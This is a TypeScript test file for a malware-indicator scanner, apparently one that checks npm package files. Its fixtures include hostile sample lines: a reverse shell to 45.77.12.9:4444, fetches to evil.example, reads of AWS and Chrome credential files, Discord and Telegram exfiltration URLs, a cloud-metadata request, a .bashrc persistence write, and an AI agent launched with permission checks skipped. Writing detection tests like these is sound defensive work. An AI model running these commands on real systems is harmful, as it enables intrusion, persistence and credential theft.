import { readFileSync } from "node:fs";

import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { readFileFacts } from "../files/read-file-facts.ts";
import type { Indicator } from "../package-facts.ts";
import { findIndicators } from "./find-indicators.ts";
import { createIndicatorPatterns } from "./indicator-patterns.ts";

function find(text: string, path = "index.js"): readonly Indicator[] {
  const entry = { path, bytes: Buffer.from(text), mode: 0o644 };
  return findIndicators(entry, readFileFacts(entry));
}

function kindsOf(text: string, path?: string): readonly string[] {
  return find(text, path).map(({ kind, value }) => `${kind} ${value}`);
}

describe("findIndicators", () => {
  test("finds URLs with their hosts, and where they stand", () => {
    expect(find('// see https://docs.example/a\nfetch("https://evil.example:8443/x?y");')).toEqual([
      {
        kind: "url",
        value: "https://docs.example/a",
        path: "index.js",
        location: { line: 1, column: 8 },
        where: "comment",
      },
      {
        kind: "host",
        value: "docs.example",
        path: "index.js",
        location: { line: 1, column: 8 },
        where: "comment",
      },
      {
        kind: "url",
        value: "https://evil.example:8443/x?y",
        path: "index.js",
        location: { line: 2, column: 8 },
        where: "code",
      },
      {
        kind: "host",
        value: "evil.example",
        path: "index.js",
        location: { line: 2, column: 8 },
        where: "code",
      },
    ]);
  });

  test.each([
    ['fetch("https://discord.com/api/webhooks/1/ab")', "messenger https://discord.com/api/webhooks/1/ab"],
    ["const u = `https://api.telegram.org/bot${t}/sendMessage`", "messenger https://api.telegram.org/bot$"],
    ['x = "abc.oast.fun"', "exfiltration-service abc.oast.fun"],
    ['x = "https://a1.ngrok-free.app"', "tunnel-service https://a1.ngrok-free.app"],
    ['get("https://pastebin.com/raw/a")', "paste-service https://pastebin.com/raw/a"],
    ['rpc("https://api.mainnet-beta.solana.com")', "chain-endpoint https://api.mainnet-beta.solana.com"],
    [
      'get("http://169.254.169.254/latest/meta-data/")',
      "cloud-metadata http://169.254.169.254/latest/meta-data/",
    ],
    ['put(registry + "/-/npm/v1/tokens")', "registry-api /-/npm/v1/tokens"],
    ['get("https://api.github.com/user")', "code-host-api https://api.github.com/user"],
    ['run("stratum+tcp://pool.example:3333")', "mining stratum+tcp://pool.example:3333"],
    ['read(home + "/.aws/credentials")', "credential-path /.aws/credentials"],
    ['read("C:\\\\Chrome\\\\User Data\\\\Login Data")', "credential-path Login Data"],
    ['ids = ["nkbihfbeogaeaoehlefnkodbefgpgknn"]', "wallet-path nkbihfbeogaeaoehlefnkodbefgpgknn"],
    ['append("~/.bashrc", x)', "persistence-path ~/.bashrc"],
    ["process.env.NPM_TOKEN", "secret-variable NPM_TOKEN"],
    ['spawn("claude", ["--dangerously-skip-permissions"])', "agent-tool --dangerously-skip-permissions"],
    ['{ hostname: "collector.evil-host.xyz" }', "host collector.evil-host.xyz"],
    ['net.connect(4444, "45.77.12.9")', "address 45.77.12.9"],
    ['exec("bash -i >& /dev/tcp/45.77.12.9/4444")', "address 45.77.12.9"],
    ['a = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"', "wallet-address 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"],
    [
      'a = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"',
      "wallet-address bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
    ],
    [
      'a = "0x52908400098527886E0F7030069857D2E4169EE7"',
      "wallet-address 0x52908400098527886E0F7030069857D2E4169EE7",
    ],
  ])("finds in %s what it names", (text, expected) => {
    expect(kindsOf(text)).toContain(expected);
  });

  test.each([
    'const version = "1.2.3.4";',
    'agent = "Chrome/90.0.4430.93 Safari/537.36"',
    "d = 'M1.5.3.2.1 4.5'",
    'listen("192.168.0.1"); listen("127.0.0.1"); dns("8.8.8.8")',
    "process.env.MY_NPM_TOKEN_NAME",
    'require("./foo.js"); a["this.me"]',
    "interact.show(1)",
    'get("api.aws/openai")',
    'a = "1111111111111111111111111111111111"',
    'a = "0x0000000000000000000000000000000000000000"',
    '<svg xmlns="http://www.w3.org/2000/svg">',
    "local state of a component",
    'x = "http://localhost:3000/"',
  ])("finds nothing in %s", (text) => {
    expect(kindsOf(text)).toEqual([]);
  });

  test("tells comments from texts and regular expressions", () => {
    const text =
      "const a = /[/*]/; const b = `//${c + `https://a.example/`}`; x = 'https://b.example/'; /* https://c.example/ */";
    const places = find(text).filter(({ kind }) => kind === "host");

    expect(places.map(({ value, where }) => `${value} ${where}`)).toEqual([
      "a.example code",
      "b.example code",
      "c.example comment",
    ]);
  });

  test("takes a text that is no code for a text", () => {
    expect(find("https://a.example/", "README.md").map(({ where }) => where)).toEqual(["text", "text"]);
  });

  test("finds indicators of known campaigns", () => {
    const entry = { path: "a.js", bytes: Buffer.from('get("sub.Bad-Host.example/x")'), mode: 0o644 };
    const found = findIndicators(entry, readFileFacts(entry), createIndicatorPatterns(["bad-host.example"]));

    expect(found.map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      "known-indicator sub.Bad-Host.example/x",
    ]);
  });

  test("keeps a bounded number", () => {
    const many = Array.from({ length: 5000 }, (_, at) => `"https://h${String(at)}.example/"`).join("\n");

    expect(find(many).length).toBeLessThanOrEqual(120);
  });

  test("does not search what is no text", () => {
    expect(find("https://a.example/", "index.js.map")).toEqual([]);
  });

  test("finds nothing of this file's own code that is not in it", () => {
    const own = readFileSync(import.meta.filename, "utf8");

    for (const { value, kind } of find(own, "own.ts")) {
      expect(own.toLowerCase()).toContain(kind === "host" ? value : value.toLowerCase());
    }
  });

  test("never throws, and its places lie in the text", () => {
    const pieces = fc.constantFrom(
      "https://",
      '"',
      "'",
      "`",
      "${",
      "}",
      "/*",
      "//",
      "\n",
      "1.2.3.4",
      '.com"',
      "0x",
      "\\",
      "a",
      "/",
    );

    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 60 }), (all) => {
        const text = all.join("");

        for (const { location } of find(text)) {
          expect(location?.line).toBeLessThanOrEqual(text.split("\n").length);
        }
      }),
      { numRuns: 1000 },
    );
  });
});
